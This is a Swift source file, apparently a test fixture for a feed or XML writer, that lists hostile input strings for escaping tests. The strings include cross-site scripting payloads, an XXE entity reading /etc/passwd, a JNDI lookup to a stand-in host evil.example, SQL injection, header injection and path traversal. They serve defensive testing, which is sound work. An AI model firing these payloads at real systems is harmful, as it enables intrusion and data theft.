/// Texts that try to break out of where they are put.
enum HostileText {
  private static let vectors: [String] = [
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "</SCRIPT\t><svg/onload=alert(1)>", "<!--",
    "-->",
    "<!--<script>", "<![CDATA[", "]]>", "<![CDATA[x]]>", "a]]>b]]]]><![CDATA[>c", "<?xml version=\"1.0\"?>",
    "<?php x ?>", "?>",
    "<!DOCTYPE x [<!ENTITY a \"b\">]>&a;", "<!ENTITY x SYSTEM \"file:///etc/passwd\">&x;", "&xxe;", "&", "&&", "&amp;",
    "&amp;amp;", "&lt;b&gt;", "&#0;", "&#x0;", "&#x110000;", "&#60;script&#62;", "&nbsp;&copy;&shy;", "AT&T", "<", ">",
    "<>", "</",
    "/>", "<b", "\"", "'", "\"'><img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)",
    "`${alert(1)}`", "{{constructor.constructor('alert(1)')()}}", "javascript:alert(1)",
    "data:text/html,<script>1</script>",
    "</title><script>1</script>", "</item></channel></rss>", "</entry></feed>",
    "</textarea></style></noscript></template>",
    "<svg><style><img src=x onerror=alert(1)>", "<math><mtext></form><form><mglyph><style></math><img src onerror=1>",
    "<a href=\"java\nscript:1\">", "<iframe srcdoc=\"&lt;script&gt;1&lt;/script&gt;\">", "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0>", "\\", "\\\"", "\\u003cscript\\u003e", "\\u0000", "*/alert(1)/*",
    "//\nalert(1)",
    "line\nfeed", "carriage\rreturn", "both\r\nof them", "tab\tulator", "  two  blanks  ", "\n", "\r",
    "\u{2028}\u{2029}",
    "a\u{2028}</script>\u{2029}", "\u{FEFF}byte order mark", "\u{202E}right to left\u{202C}",
    "\u{200B}\u{200D}\u{2066}x",
    "\u{FFFD}", "é e\u{301}", "نص عربي", "中文標題", "👩‍👩‍👧‍👦🇦🇲", "\u{10FFFF}", "\u{E000}", "\u{D7FF}", "\u{EFFF}\u{FFBF}",
    "'; DROP TABLE article; --", "=1+1", "%00%0d%0aSet-Cookie: x=1", "../../etc/passwd",
    "${jndi:ldap://evil.example/a}", String(repeating: "<", count: 3000), String(repeating: "]]>", count: 500),
    String(repeating: "&lol;", count: 500), "x" + String(repeating: "\u{301}", count: 500),
  ]

  /// All that stands below the space, the upper controls, and what Unicode says is no character.
  private static let controls: [Character] =
    (Array(0..<0x20) + Array(0x7F..<0xA0) + [0xFDD0, 0xFDEF, 0xFFFE, 0xFFFF, 0x1FFFE, 0x10FFFE])
    .compactMap { Unicode.Scalar(UInt32($0)).map(Character.init) }

  /// Each vector alone and within words with a control, each control within a tag, alone and at the end.
  static let all: [String] =
    vectors + vectors.map { "before\u{0}\($0)\u{B} after" }
    + controls.flatMap { ["<\($0)script>alert(1)</\($0)script>", "\($0)", "]]\($0)>"] }

  /// The text as XML 1.0 can hold it (§2.2): U+FFFD for what it cannot.
  static func inXML(_ text: String) -> String {
    var result = String.UnicodeScalarView()
    for scalar in text.unicodeScalars {
      switch scalar.value {
      case 0x9, 0xA, 0xD, 0x20...0xD7FF, 0xE000...0xFFFD, 0x10000...0x10FFFF: result.append(scalar)
      default: result.append("\u{FFFD}")
      }
    }
    return String(result)
  }

  /// Equal scalar for scalar: to Swift's `==` a composed letter equals its decomposed form.
  static func areSame(_ a: String?, _ b: String?) -> Bool {
    a.map { Array($0.utf8) } == b.map { Array($0.utf8) }
  }
}
